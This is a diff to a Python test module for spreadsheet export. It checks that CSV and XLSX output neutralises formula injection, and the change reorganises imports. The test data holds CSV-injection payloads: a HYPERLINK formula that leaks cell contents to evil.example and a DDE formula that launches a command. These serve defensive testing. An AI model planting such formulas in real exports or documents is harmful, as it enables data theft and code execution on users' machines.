@@ -5,21 +5,17 @@ name or a reject message must reach the person who opens the file as text: in CS
 with a leading single quote (OWASP), in XLSX as a string cell (never a formula)."""
 import csv
 import io
-import sys
 import zipfile
-from pathlib import Path
 
 import openpyxl
-from factories import gazetteer_record
 
 import connectors
 from causeway_common.cells import FORMULA_TRIGGERS, csv_cell
 from hub.db import write_transaction
 from hub.records.models import record_rejects
 from hub.returns.export import grid_csv, period_csv
-
-sys.path.insert(0, str(Path(__file__).resolve().parent.parent / "hub" / "console"))
-from console_helpers import add_staff, sign_in  # noqa: E402
+from support.console import add_staff, sign_in
+from support.factories import gazetteer_record
 
 LEAK = '=HYPERLINK("http://evil.example/?leak="&A1,"x")'
 HOSTILE = [LEAK, "+1+1", "-2+3", "@SUM(A1:A9)", "\t=1+1", "\r=1+1", "\n=1+1", "=cmd|' /C calc'!A0"]
